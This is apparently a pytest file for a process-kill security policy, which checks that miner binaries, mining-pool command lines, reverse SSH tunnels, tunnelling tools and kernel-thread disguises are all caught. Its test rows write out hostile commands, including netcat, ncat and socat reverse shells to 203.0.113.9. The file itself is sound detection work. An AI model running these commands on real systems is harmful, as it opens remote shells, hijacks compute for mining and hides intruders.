"""What the shipped policy must stop before its first instruction, however it is spelt: rule, then a command line a row.

The executable is given by its path; where the program calls itself something else, that follows after an ``=``.
"""

from __future__ import annotations

import shlex

import pytest

from killswitch.commands import Response
from killswitch.events import Exec
from killswitch.facts import Facts
from killswitch.policy.compile import compile_policies
from killswitch.policy.compiled import Compiled
from killswitch.policy.inline import build_event
from killswitch.policy.load import load_files
from tests.unit.policy.test_shipped import FILES

WALLET = "48" + "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789" + "abcdefghijkmnopqrstuvwxyzABCDEFGHJK"

MINER_BINARY = r"""
/tmp/xmrig
/tmp/XMRig -c config.json
/tmp/XMRIG
/dev/shm/xmrig --help
/opt/xmrig-6.21.0/xmrig
/tmp/xmrig-6.21.0
/tmp/xmrig_v6
/tmp/xmrig6
/tmp/xmrig.x86_64
/tmp/xmrig-linux-x64
/tmp/xmrig-cuda
/tmp/xmrig.exe
/tmp/xmrigDaemon
/tmp/xmrig-proxy
/tmp/xmrigcc
/tmp/xmr-stak
/tmp/xmr-stak-rx
/tmp/minerd -a sha256d
/tmp/minerd.x86_64
/tmp/cpuminer
/tmp/cpuminer-avx2
/tmp/cpuminer-avx512-sha-vaes
/tmp/cpuminer-zen3
/tmp/cpuminer-gr-avx2
/tmp/ccminer
/tmp/ccminer-linux-cuda
/tmp/cgminer
/tmp/cgminer-4.11.1
/tmp/ethminer
/tmp/ETHMINER
/tmp/nbminer
/tmp/lolMiner
/tmp/lolMiner-1.88
/tmp/PhoenixMiner
/tmp/teamredminer
/tmp/SRBMiner-MULTI
/tmp/SRBMiner-Multi-2.5.0
/tmp/nanominer
/tmp/wildrig-multi
/tmp/p2pool
/tmp/NiceHashQuickMiner
/root/.cache/kdevtmpfsi
/usr/bin/kinsing
/etc/watchbog
/tmp/x/../minerd
/tmp/xmrig=systemd
/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /tmp /tmp/xmrig
/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2=/lib64/ld-linux-x86-64.so.2 ./xmrig
/lib/ld-musl-x86_64.so.1 /tmp/minerd -c x
/tmp/xmrig-v6.21.0-linux-static-x64
/tmp/xmrig-notls
/tmp/xmrig-mo
"""

MINER_COMMAND_LINE = r"""
/tmp/train -o stratum+tcp://pool.example:3333 -u wallet -p x
/tmp/train -o stratum+ssl://pool.example:443 -u wallet
/tmp/train -u wallet -o stratum+tcp://pool.example:3333
/tmp/train --url=stratum+tcp://pool.example:3333 --user=wallet
/tmp/train --url stratum+tcp://pool.example:3333 --user wallet
/tmp/train -o STRATUM+TCP://pool.example:3333 -u wallet
/tmp/train -ostratum+tcp://pool.example:3333 -uwalletwallet
/tmp/train -o stratum+tcp://pool.example -u w
/tmp/train -o stratum://pool.example:3333 -u w
/tmp/train -o stratum2+tcp://pool.example:3333 -u w
/tmp/train -o stratum+tcp://[2001:db8::1]:3333 -u w
/tmp/train -o stratum+tcp://127.0.0.1:3333 -u w
/tmp/train -o daemon+http://node:18081 -u w
/tmp/train -o stratum+tcp://p:1 -O user:pass
/tmp/train -o stratum+tcp://p:1 --userpass=user:pass
/tmp/train --pool stratum+tcp://p:1 --user w
/tmp/train --pool=stratum+tcp://p:1 --wallet=w
/tmp/train --server stratum+tcp://p:1 --user w
/tmp/train -P stratum1+tcp://0x0123456789abcdef0123456789abcdef01234567.w@p:4444
/tmp/train stratum1+tcp://0x0123456789abcdef0123456789abcdef01234567.w@p:4444
/tmp/train -o ethstratum+tcp://p:1 -u w
/tmp/train -o nicehash+tcp://p:1 -u w
/tmp/train -o stratum+tcp://p:1 -a rx/0
/tmp/train -o stratum+tcp://p:1 --coin=monero
/tmp/train -o stratum+tcp://p:1 --donate-level 0
/tmp/train -o stratum+tcp://p:1 --nicehash
/tmp/train -o stratum+tcp://p:1 --rig-id=x
/tmp/train -o stratum+tcp://p:1 WALLET
/tmp/train -o pool.supportxmr.com:3333 -u w -p x
/tmp/train -o pool.supportxmr.com:443 -u WALLET --tls
/tmp/train -o gulf.moneroocean.stream:10128 -u w
/tmp/train -o xmr-eu1.nanopool.org:14433 --user=w
/tmp/train --url=de.monero.herominers.com:1111 -u w
/tmp/train -opool.hashvault.pro:443 -uwalletwallet
/tmp/train --pool eu.zergpool.com:3333 --wallet w
/tmp/train -o POOL.SUPPORTXMR.COM:3333 -u w
/tmp/train -o 192.0.2.1:3333 -u WALLET -p x
/tmp/train -o 192.0.2.1:443 -uWALLET
/tmp/train --url=192.0.2.1:443 --user=WALLET
/tmp/train --donate-level=1 -a rx/0
/tmp/train --donate-level 0 --rig-id=x
/tmp/train --donate-over-proxy=1 --randomx-1gb-pages
/tmp/train --randomx-mode=fast --nicehash
/tmp/train --cpu-max-threads-hint=50 --coin=monero
/tmp/train --argon2-impl=AVX2 -a argon2/chukwa
/tmp/train --cpu-no-yield --algo=rx/0
/tmp/grep -o stratum+tcp://pool.example:3333 -u wallet
/home/a/bin/echo -o stratum+tcp://pool.example:3333 -u wallet
/tmp/train=grep -o stratum+tcp://pool.example:3333 -u wallet
/usr/bin/python3.11 miner.py -o stratum+tcp://pool.example:3333 -u wallet
/usr/bin/node miner.js --url=stratum+tcp://pool.example:3333 --user=wallet
"""

REVERSE_SSH_TUNNEL = r"""
/usr/bin/ssh -R 9000:localhost:22 host
/usr/bin/ssh -R9000:localhost:22 host
/usr/bin/ssh -fNR9000:localhost:22 host
/usr/bin/ssh -fNR 9000:localhost:22 host
/usr/bin/ssh -4NR 9000:localhost:22 host
/usr/bin/ssh -NTR 9000 host
/usr/bin/ssh -R :9000:localhost:22 host
/usr/bin/ssh -R '*:9000:localhost:22' host
/usr/bin/ssh -R '[::1]:9000:localhost:22' host
/usr/bin/ssh -R /tmp/sock:localhost:22 host
/usr/bin/ssh -R /tmp/sock:/run/docker.sock host
/usr/bin/ssh host -R 9000:localhost:22
/usr/bin/ssh host -NR 9000:localhost:22
/usr/bin/ssh -p 22 host -R 9000:localhost:22 sleep 9
/usr/bin/ssh ssh://user@host:22 -R 9000:localhost:22
/usr/bin/ssh -oRemoteForward='9000 localhost:22' host
/usr/bin/ssh -o RemoteForward='9000 localhost:22' host
/usr/bin/ssh -o 'remoteforward 9000 localhost:22' host
/usr/bin/ssh -o 'REMOTEFORWARD=9000 localhost:22' host
/usr/bin/ssh -o 'RemoteForward	9000 localhost:22' host
/usr/bin/ssh -o '"RemoteForward" 9000 localhost:22' host
/usr/bin/ssh -o 'Remote"Forward" 9000 localhost:22' host
/usr/bin/ssh -o '  = RemoteForward = 9000 localhost:22' host
/usr/bin/ssh host -o RemoteForward=9000
/usr/bin/ssh -o '' -R 9000:localhost:22 host
/usr/bin/ssh '' -R 9000:localhost:22
/usr/bin/ssh -l ls -R 9000:localhost:22 host
/usr/bin/ssh -i -R -R 9000:localhost:22 host
/usr/bin/ssh -F none -R 9000:localhost:22 host
/usr/bin/ssh -E log -R 9000:localhost:22 host
/usr/bin/ssh -J jump -R 9000:localhost:22 host
/usr/bin/ssh -S ctl -O forward -R 9000:localhost:22 host
/usr/bin/ssh -MNf -S ctl -R 9000:localhost:22 host
/usr/bin/ssh -D 1080 -L 1:a:2 -R 9000:localhost:22 host
/usr/bin/ssh -P tag -R 9000:localhost:22 host
/usr/bin/ssh=sshd -R 9000:localhost:22 host
/usr/bin/ssh=/usr/bin/ls -R 9000:localhost:22 host
/tmp/ssh -R 9000:localhost:22 host
/tmp/SSH -R 9000:localhost:22 host
/usr/bin/slogin -R 9000:localhost:22 host
"""

OTHER_CLIENT = r"""
/usr/bin/dbclient -R 9000:localhost:22 host
/usr/bin/dbclient -R9000:localhost:22 host
/usr/bin/dbclient -fNR 9000:localhost:22 host
/usr/bin/dbclient -N -R '*:9000:localhost:22' host
/usr/bin/dbclient -N -R localhost:9000:localhost:22 host
/usr/bin/dropbearmulti dbclient -R 9000:localhost:22 host
/usr/bin/plink -batch -R 9000:localhost:22 host
/usr/bin/plink '-R9000:[::1]:22' host
/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 /usr/bin/ssh -R 9000:localhost:22 host
/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --argv0 x /usr/bin/ssh -fNR9000:localhost:22 host
/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 /usr/bin/ssh -oRemoteForward=9000 host
/tmp/copy -o StrictHostKeyChecking=no -fNR 9000:localhost:22 host
/tmp/copy -oStrictHostKeyChecking=no -R '[::1]:9000:localhost:22' host
/tmp/copy -NTR 9000:db.internal:5432 -o ExitOnForwardFailure=yes -o ServerAliveInterval=30 host
"""

GIVEN_AWAY = r"""
/usr/bin/nc.traditional -e /bin/sh 203.0.113.9 4444
/usr/bin/ncat 203.0.113.9 443 --sh-exec=bash
/bin/busybox nc 203.0.113.9 443 -e sh
/usr/bin/socat1 tcp-connect:203.0.113.9:443 'exec:bash -li,pty'
"""

# Judged when the program has begun: what it is by its content is known by then.
LATER = r"""
miner-in-emulator /usr/bin/qemu-aarch64-static ./xmrig
miner-in-emulator /usr/bin/box64 /tmp/xmrig
miner-in-emulator /usr/bin/qemu-x86_64 -L /x -E A=b /tmp/xmrig -C /src
miner-in-emulator /usr/bin/wine64 C:/x/xmrig.exe
miner-command-line-bare /tmp/train -o pool.example:3333 -a rx/0 -u w -k
miner-command-line-bare /tmp/train --algorithm randomx --pool pool.example:3333 --wallet w
miner-command-line-bare /tmp/train --coin monero --url=203.0.113.9:443 -u w --tls
connections-joined /usr/bin/nc.traditional -nve /bin/sh 203.0.113.9 4444
connections-joined /usr/bin/nc.traditional -c /bin/sh 203.0.113.9 4444
connections-joined /usr/bin/nc -ne /bin/sh 203.0.113.9 4444
connections-joined /usr/bin/ncat 203.0.113.9 443 -c bash --ssl
connections-joined /usr/bin/ncat -c 'bash -i' 203.0.113.9 443
connections-joined /usr/bin/socat TCP:login.example:443 TCP:localhost:22
connections-joined /usr/bin/socat PROXY:proxy:far.example:443 TCP:localhost:22
reverse-tunnel-tool /usr/bin/ngrok http 8080
reverse-tunnel-tool /usr/bin/ngrok --log stdout tcp 22
reverse-tunnel-tool /tmp/ngrok-v3 tcp 22
reverse-tunnel-tool /usr/bin/cloudflared --url http://localhost:8080
reverse-tunnel-tool /usr/bin/cloudflared tunnel --url=ssh://localhost:22
reverse-tunnel-tool /usr/bin/cloudflared tunnel --no-autoupdate --config c.yml run
reverse-tunnel-tool /usr/bin/cloudflared service install eyJhIjoi
reverse-tunnel-tool /tmp/frpc
reverse-tunnel-tool /tmp/frpc --strict_config=false -c x.toml
reverse-tunnel-tool /tmp/frpc tcp --user --help -l 22
reverse-tunnel-tool /usr/bin/tailscale funnel --bg 8080
reverse-tunnel-tool /usr/bin/tailscale up --authkey k --ssh
reverse-tunnel-tool /usr/bin/node /usr/local/bin/lt --port 80
reverse-tunnel-tool /usr/bin/node /usr/lib/node_modules/localtunnel/bin/lt.js --port 80
reverse-tunnel-tool /usr/bin/npm exec localtunnel -- --port 80
reverse-tunnel-tool /tmp/chisel client https://far.example R:2222:localhost:22 --help
"""

DISGUISE = r"""
/tmp/kworker
/tmp/kworkerds
/tmp/kworker34
/tmp/kworker_0_1
/tmp/KWORKER
/var/tmp/kswapd0
/var/tmp/kswapd
/tmp/khugepageds
/tmp/kthrotlds
/tmp/kintegrityds
/tmp/kpsmouseds
/tmp/ksoftirqd0
/tmp/kacpi_svc
/tmp/kauditd_svc
/tmp/kswap_svc
/tmp/ksoftirqd_svc
/tmp/kthreadd
/tmp/rcu_sched
/tmp/oom_reaper
/tmp/x=[kworker/0:1]
/tmp/x=[kworker/u16:3-events_unbound]
/tmp/x=[kswapd0]
/tmp/x=[rcu_sched]
/tmp/x=[migration/0]
/tmp/x=kworker/0:1H
/usr/bin/python3.11=[kworker/1:0] script.py
"""

GROUPS = {
    "miner-binary": MINER_BINARY,
    "miner-command-line": MINER_COMMAND_LINE,
    "reverse-ssh-tunnel": REVERSE_SSH_TUNNEL,
    "reverse-tunnel-other-client": OTHER_CLIENT,
    "program-given-to-a-connection": GIVEN_AWAY,
    "kernel-thread-disguise": DISGUISE,
}
ROWS = [(rule, line) for rule, group in GROUPS.items() for line in group.strip().splitlines()]


@pytest.fixture(scope="module")
def compiled() -> Compiled:
    return compile_policies(load_files(FILES))


def test_there_are_many() -> None:
    assert len(ROWS) >= 180 and len(set(ROWS)) == len(ROWS)
    assert len(WALLET) == 95


@pytest.mark.parametrize("row", LATER.strip().splitlines())
def test_rogue_work_is_stopped_once_it_began(compiled: Compiled, row: str) -> None:
    rule, executable, *arguments = shlex.split(row)
    args = (executable.rpartition("/")[2], *arguments)
    event, extra = build_event("exec", {"process.executable": executable, "process.args": args})
    assert isinstance(event, Exec)
    found = {one.rule.id: one.rule for one in compiled.later(event, (1 << len(compiled.policies)) - 1, Facts(), extra)}
    assert rule in found
    assert Response.KILL_PROCESS in found[rule].response


@pytest.mark.parametrize(("rule", "line"), ROWS)
def test_rogue_work_is_stopped_in_the_kernel(compiled: Compiled, rule: str, line: str) -> None:
    program, *arguments = shlex.split(line.replace("WALLET", WALLET))
    executable, _, title = program.partition("=")
    args = (title or executable.rpartition("/")[2], *arguments)
    event, extra = build_event("exec", {"process.executable": executable, "process.args": args})
    everything = (1 << len(compiled.policies)) - 1
    found = {one.rule.id: one.rule for one in compiled.matches(event, everything, extra)}
    assert rule in found
    assert Response.KILL_PROCESS in found[rule].response
    clause = compiled.clause(compiled.predicates(event), everything)  # type: ignore[arg-type]
    assert clause >= 0 and compiled.tables.clauses[clause].kill and compiled.tables.clauses[clause].sever
